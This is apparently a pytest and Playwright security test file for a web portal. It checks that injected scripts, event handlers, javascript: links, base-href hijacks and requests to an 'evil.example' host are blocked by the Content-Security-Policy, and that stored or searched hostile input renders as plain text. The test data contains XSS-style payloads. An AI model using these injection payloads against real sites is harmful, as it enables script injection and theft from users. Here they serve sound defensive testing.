"""What was captured, and what somebody slips into a page, is never carried out (S08, S13)."""

from collections.abc import Callable, Iterator
from datetime import timedelta
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page

from portal.core import clock
from tests.browser.captured import HOSTILE
from tests.browser.inspection import LISTEN
from tests.browser.installation import Installation
from tests.browser.people import Someone, sign_in
from tests.gateway.process import wait_until

ADD = "document.body.insertAdjacentHTML('beforeend', {!r})"
MADE = "const made = document.createElement('script'); made.{} = {!r}; document.body.append(made)"
INJECTIONS = {
    "script": MADE.format("textContent", "window.hit = 1"),
    "script from elsewhere": MADE.format("src", "https://evil.example/x.js"),
    "script by data": MADE.format("src", "data:text/javascript,window.hit=1"),
    "handler": ADD.format('<img src=x onerror="window.hit=1">'),
    "link": ADD.format('<a id=evil href="javascript:window.hit=1">x</a>') + "; document.getElementById('evil').click()",
    "text as code": "setTimeout('window.hit = 1', 0)",
    "style": ADD.format('<p id=evil style="color: rgb(1, 2, 3)">x</p>'),
    "style sheet": ADD.format("<style>body { color: rgb(1, 2, 3) }</style>"),
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "fetch": "fetch('https://evil.example/').catch(() => {})",
    "frame": ADD.format('<iframe src="https://evil.example/"></iframe>'),
    "form": ADD.format('<form id=evil action="https://evil.example/"></form>') + "; evil.submit()",
}
SILENT = {
    "svg": ADD.format("<svg><script>window.hit=1</script></svg>"),
    "frame of our own": ADD.format('<iframe srcdoc="<script>parent.hit=1</script>"></iframe>'),
    "htmx handler": ADD.format('<p id=evil hx-on:click="window.hit=1">x</p>') + "; htmx.process(evil); evil.click()",
}
"""What does nothing without the browser saying so to the page."""
RED = "rgb(1, 2, 3)"


@pytest.fixture(scope="module")
def page(browser: Browser, installed: Installation) -> Iterator[Page]:
    """A page of somebody, with a note of each violation."""
    with sign_in(browser, installed).context() as context:
        context.add_init_script(LISTEN)
        yield context.new_page()


@pytest.mark.parametrize("way", [*INJECTIONS, *SILENT])
def test_S08_what_is_injected_stays_dead(page: Page, way: str) -> None:
    page.goto("/data")
    page.evaluate(f"() => {{ {(INJECTIONS | SILENT)[way]} }}")
    if way in INJECTIONS:
        wait_until(lambda: page.evaluate("window.violations.length") > 0)
    assert page.evaluate("window.hit") is None
    assert page.evaluate("getComputedStyle(document.querySelector('#evil') || document.body).color") != RED
    assert page.evaluate("document.baseURI").startswith("http://localhost")


def test_S08_policy_allows_nothing_unsafe(page: Page) -> None:
    answer = page.goto("/")
    assert answer
    policy = answer.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "*" not in policy
    assert "default-src 'none'" in policy
    again = page.goto("/")
    assert again
    assert again.headers["content-security-policy"] != policy, "the nonce is new each time"


def test_S13_hostile_content_is_text_wherever_it_appears(newcomer: Callable[..., Someone]) -> None:
    amira = newcomer(f"Amira {HOSTILE}")
    recorder = amira.records(f"ThinkPad {HOSTILE}"[:80])
    at = clock.now() - timedelta(minutes=5)
    items = [
        recorder.typed(at, HOSTILE, title=HOSTILE),
        recorder.looked(at + timedelta(minutes=1), (HOSTILE, HOSTILE)),
        recorder.asked(at + timedelta(minutes=2), HOSTILE, HOSTILE),
    ]
    assert recorder.send() == ["stored"] * 3
    day = clock.local_day(at, amira.zone)
    with amira.context() as context:
        context.add_init_script(LISTEN)
        page = context.new_page()
        for path in (*(f"/data/{day}/{item}" for item in items), "/", "/settings", "/looks", f"/data/{day}"):
            page.goto(path)
            assert page.evaluate("[window.hit, window.violations]") == [None, []]
            assert page.locator("main img[src=x], main svg[onload], main script").count() == 0
            shown = path.startswith(f"/data/{day}/")
            assert not shown or "<script>window.hit=1</script>" in page.locator("main").inner_text()


def test_S13_search_text_is_text(newcomer: Callable[..., Someone], installed: Installation) -> None:
    ben = newcomer("Ben Roth")
    recorder, at = ben.records("ThinkPad"), clock.now() - timedelta(minutes=5)
    recorder.typed(at, "A day has to hold something to be searched.")
    assert recorder.send() == ["stored"]
    with ben.page(f"/data/{clock.local_day(at, ben.zone)}") as page:
        page.fill("#f-text", HOSTILE)
        page.press("#f-text", "Enter")
        page.wait_for_selector("#items-title:has-text('window.hit')")
        assert page.evaluate("window.hit") is None
        assert urlsplit(page.url).query == ""
        assert page.url.startswith(installed.base)
